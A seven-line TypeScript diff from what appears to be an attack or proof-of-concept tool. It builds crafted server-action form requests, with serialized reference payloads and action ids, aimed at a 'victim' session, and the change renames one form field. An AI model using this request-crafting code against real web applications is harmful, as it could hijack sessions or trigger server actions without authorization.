@@ -110,7 +110,7 @@ function listTargets(victim: Victim): Target[] {
   const actions = builtActions().flatMap(({ id, name, pages }): Target[] => {
     const address = pages.map((page) => addressOf(page, things!)).find((found) => found !== undefined)!;
     const called = new FormData();
-    called.append("1_id", victim.sessionId);
+    called.append("_1_id", victim.sessionId);
     called.append("0", '[{},"$K1"]');
     const posted = new FormData();
     posted.append(`$ACTION_ID_${id}`, "");
